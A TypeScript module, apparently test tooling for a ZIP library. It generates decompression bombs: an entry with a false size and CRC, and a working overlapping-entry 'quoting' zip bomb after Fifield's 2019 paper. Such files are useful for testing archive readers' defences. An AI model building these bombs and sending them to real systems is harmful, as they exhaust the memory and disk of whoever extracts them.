import { constants, deflateRawSync } from 'node:zlib';
import { buildZip, integers, type Part } from './zip-builder.ts';

const MIB = 1024 * 1024;

/** An entry of so many MiB of zeros. */
export function zeros(mebibytes: number): Part {
  const data = deflatedZeros(mebibytes);
  const size = mebibytes * MIB;
  return { name: 'zeros', method: 8, data, claims: { size, crc: 0 } };
}

/** The bomb of D. Fifield ("A better zip bomb", WOOT 2019): each entry begins with the header of the next as a block that is not compressed, and then is the next. */
export function quotingBomb(count: number): Buffer {
  let next = { data: deflatedZeros(1), content: Buffer.alloc(MIB) };
  const made: { length: number; fields: Part }[] = [];
  for (let index = count; index > 0; index -= 1) {
    const part: Part = { name: `quoted-${100 + index}`, content: next.content, method: 8, data: next.data };
    const record = buildZip([part]).subarray(0, 40 + next.data.length);
    made.unshift({ length: record.length, fields: part });
    const header = record.subarray(0, 40);
    const block = Buffer.concat([integers([1, 0], [2, header.length], [2, 0xffff - header.length]), record]);
    next = { data: block, content: Buffer.concat([header, next.content]) };
  }
  const whole = made[0]?.length ?? 0;
  return buildZip(
    made.map(({ fields, length }, index) => ({ ...fields, offset: whole - length, listedOnly: index > 0 })),
  );
}

/** The true deflated form of so many MiB of zeros, made from one MiB that refers to nothing before it. */
function deflatedZeros(mebibytes: number): Buffer {
  const one = deflateRawSync(Buffer.alloc(MIB), { finishFlush: constants.Z_FULL_FLUSH, level: 9 });
  return Buffer.concat([...Array.from({ length: mebibytes }, () => one), deflateRawSync(Buffer.alloc(0))]);
}
